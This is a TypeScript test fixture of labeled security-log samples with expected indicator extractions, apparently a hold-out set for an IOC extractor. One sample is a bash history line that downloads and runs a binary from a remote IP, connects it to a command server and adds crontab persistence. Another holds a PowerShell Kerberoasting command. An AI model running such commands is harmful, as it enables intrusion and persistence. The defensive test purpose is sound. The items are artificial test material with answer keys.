import { createHash } from 'node:crypto';
import type { LabeledDoc } from '../documents';

const digest = (alg: 'md5' | 'sha1' | 'sha256', seed: string): string =>
  createHash(alg).update(seed).digest('hex');
const t = (type: string, value: string) => ({ type, value });

const sha256a = digest('sha256', 'h2-4');
const sha1b = digest('sha1', 'h2-9');
const md5b = digest('md5', 'h2-9');
const sha256b = digest('sha256', 'h2-9');
const imphash = digest('md5', 'h2-9-imphash');

/** Second hold-out batch, written after the first one's fixes and scored as first run. */
export const HOLDOUT_2: LabeledDoc[] = [
  {
    id: 'h2-1-defender-av',
    kind: 'text',
    text: 'Microsoft Defender Antivirus has detected malware or other potentially unwanted software. Name: Trojan:Win32/Emotet.PE!MTB ID: 2147735505 Severity: Severe Category: Trojan Path: file:_C:\\Users\\jsmith\\AppData\\Local\\Temp\\Rar$EXa5432.12345\\invoice.doc.js; webfile:_C:\\Users\\jsmith\\Downloads\\invoice.zip|https://tinyurl.com/2p8k4x7z|pid:4312,ProcessStart:133456789012345678 Detection Origin: Local machine User: CONTOSO\\jsmith Process Name: C:\\Windows\\explorer.exe Security intelligence Version: AV: 1.403.1234.0, AS: 1.403.1234.0 Engine Version: AM: 1.1.23100.2009',
    truth: [
      t('file_path', 'C:\\Users\\jsmith\\AppData\\Local\\Temp\\Rar$EXa5432.12345\\invoice.doc.js'),
      t('file_path', 'C:\\Users\\jsmith\\Downloads\\invoice.zip'),
      t('url', 'https://tinyurl.com/2p8k4x7z'),
      t('domain', 'tinyurl.com'),
      t('file_path', 'C:\\Windows\\explorer.exe'),
    ],
  },
  {
    id: 'h2-2-zeek-http',
    kind: 'text',
    text: '1700000000.123456\tCg8Zx41ZbZ7nM9aZ1\t10.0.0.55\t49750\t93.184.216.34\t80\tGET\twww.example-bad.site\t/dl/update.exe\t-\t1.1\tMozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3031\t0\t487424\t200\tOK',
    truth: [t('ipv4', '10.0.0.55'), t('ipv4', '93.184.216.34'), t('domain', 'www.example-bad.site')],
  },
  {
    id: 'h2-3-proofpoint-click',
    kind: 'json',
    text: JSON.stringify({
      campaignId: null,
      classification: 'malware',
      clickIP: '192.0.2.45',
      clickTime: '2026-11-22T12:01:02.000Z',
      GUID: 'x9Qk3LmP0aBcDeFgHiJkLmNoPqRsTuV',
      id: 'a6b5c4d3-e2f1-4a0b-9c8d-7e6f5a4b3c2d',
      messageID: '<20261122120001.ABC123@mta.sender-domain.com>',
      recipient: 'h.nguyen@acme-corp.com',
      sender: 'promo@sender-domain.com',
      senderIP: '198.51.100.201',
      threatID: digest('sha256', 'pp-threat'),
      threatURL: 'https://threatinsight.proofpoint.com/6a7b8c9d/threat/email/61f7d2f9a8b1c3e5',
      url: 'http://bit.ly/3xYz9Qw',
      userAgent:
        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
    }),
    truth: [
      t('ipv4', '192.0.2.45'),
      t('domain', 'mta.sender-domain.com'),
      t('email', 'h.nguyen@acme-corp.com'),
      t('domain', 'acme-corp.com'),
      t('email', 'promo@sender-domain.com'),
      t('domain', 'sender-domain.com'),
      t('ipv4', '198.51.100.201'),
      t('url', 'https://threatinsight.proofpoint.com/6a7b8c9d/threat/email/61f7d2f9a8b1c3e5'),
      t('domain', 'threatinsight.proofpoint.com'),
      t('url', 'http://bit.ly/3xYz9Qw'),
      t('domain', 'bit.ly'),
    ],
  },
  {
    id: 'h2-4-xdr-kerberoast',
    kind: 'json',
    text: JSON.stringify({
      alert_id: '84213',
      host_ip: ['10.5.3.21', 'fe80::a1b2:c3ff:fed4:e5f6'],
      host_name: 'dc-01.corp.acme-intl.com',
      action_remote_ip: '45.153.240.88',
      action_remote_port: 443,
      actor_process_command_line:
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ep bypass -f \\\\10.5.3.99\\share$\\tools\\Invoke-Kerberoast.ps1',
      mitre_technique_id_and_name: ['T1558.003 - Steal or Forge Kerberos Tickets: Kerberoasting'],
      file_sha256: sha256a,
      severity: 'high',
    }),
    truth: [
      t('ipv4', '10.5.3.21'),
      t('ipv6', 'fe80::a1b2:c3ff:fed4:e5f6'),
      t('domain', 'dc-01.corp.acme-intl.com'),
      t('ipv4', '45.153.240.88'),
      t('file_path', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'),
      t('file_path', '\\\\10.5.3.99\\share$\\tools\\Invoke-Kerberoast.ps1'),
      t('ipv4', '10.5.3.99'),
      t('mitre_technique', 'T1558.003'),
      t('sha256', sha256a),
    ],
  },
  {
    id: 'h2-5-ipv6-scan',
    kind: 'text',
    text: 'Scanning from [2a06:4880::6]:51820 and 2a06:4880:0:0:0:0:0:7 against our VPN; blocked 2a06:4880::/32. Also ASN AS208091 (XHOST) and 141.98.10.0/24 range, e.g. 141.98.10.61.',
    truth: [
      t('ipv6', '2a06:4880::6'),
      t('ipv6', '2a06:4880::7'),
      t('ipv6', '2a06:4880::'),
      t('asn', 'AS208091'),
      t('ipv4', '141.98.10.0'),
      t('ipv4', '141.98.10.61'),
    ],
  },
  {
    id: 'h2-6-bash-history',
    kind: 'text',
    text: "cd /tmp; wget -q http://185.172.128.5/bins/x86 -O /tmp/.dbus; chmod +x /tmp/.dbus; nohup /tmp/.dbus -c 185.172.128.5:6667 >/dev/null 2>&1 &; echo '* * * * * root /tmp/.dbus' >> /etc/crontab",
    truth: [
      t('url', 'http://185.172.128.5/bins/x86'),
      t('ipv4', '185.172.128.5'),
      t('file_path', '/tmp/.dbus'),
      t('file_path', '/etc/crontab'),
    ],
  },
  {
    id: 'h2-7-idn-headers',
    kind: 'text',
    text: 'From: "PayPal Service" <service@xn--pypal-4ve.com>\nReturn-Path: <bounce+srs=abc@mailer.xn--pypal-4ve.com>\nAuthentication-Results: spf=fail (sender IP is 23.94.5.120) smtp.mailfrom=xn--pypal-4ve.com; dkim=none',
    truth: [
      t('email', 'service@xn--pypal-4ve.com'),
      t('domain', 'xn--pypal-4ve.com'),
      t('email', 'bounce+srs=abc@mailer.xn--pypal-4ve.com'),
      t('domain', 'mailer.xn--pypal-4ve.com'),
      t('ipv4', '23.94.5.120'),
    ],
  },
  {
    id: 'h2-8-cloudtrail',
    kind: 'json',
    text: JSON.stringify({
      eventVersion: '1.08',
      userIdentity: {
        type: 'IAMUser',
        principalId: 'AIDA6ON6E4XEGIEXAMPLE',
        arn: 'arn:aws:iam::123456789012:user/deploy-bot',
        accountId: '123456789012',
        accessKeyId: 'AKIA6ON6E4XEGIEXAMPL',
      },
      eventTime: '2026-11-22T03:33:03Z',
      eventSource: 's3.amazonaws.com',
      eventName: 'PutBucketPolicy',
      awsRegion: 'us-east-1',
      sourceIPAddress: '5.181.80.116',
      userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/5.15.0-1051-aws botocore/2.4.5',
      requestParameters: { bucketName: 'acme-backups-prod', host: ['acme-backups-prod.s3.amazonaws.com'] },
      eventID: '3038ebd2-c98a-4c65-9b6e-e22506292313',
    }),
    truth: [
      t('domain', 's3.amazonaws.com'),
      t('ipv4', '5.181.80.116'),
      t('domain', 'acme-backups-prod.s3.amazonaws.com'),
    ],
  },
  {
    id: 'h2-9-sysmon-13',
    kind: 'text',
    text: `Sysmon EID 13: TargetObject: HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater Details: C:\\Users\\pat\\AppData\\Roaming\\updater\\updater.exe Hashes: SHA1=${sha1b},MD5=${md5b},SHA256=${sha256b},IMPHASH=${imphash}`,
    truth: [
      t(
        'registry_key',
        'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
      ),
      t('file_path', 'C:\\Users\\pat\\AppData\\Roaming\\updater\\updater.exe'),
      t('sha1', sha1b),
      t('md5', md5b),
      t('sha256', sha256b),
      t('md5', imphash),
    ],
  },
  {
    id: 'h2-10-umbrella-csv',
    kind: 'text',
    text: '"2026-11-22 10:00:01","ACME\\jdoe","ACME\\jdoe,JDOE-LT","10.0.12.5","104.16.123.96","application/zip","ALLOWED","https://files.cdn-download.top/pkg/setup_x64.zip","","Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15","200"',
    truth: [
      t('ipv4', '10.0.12.5'),
      t('ipv4', '104.16.123.96'),
      t('url', 'https://files.cdn-download.top/pkg/setup_x64.zip'),
      t('domain', 'files.cdn-download.top'),
    ],
  },
];
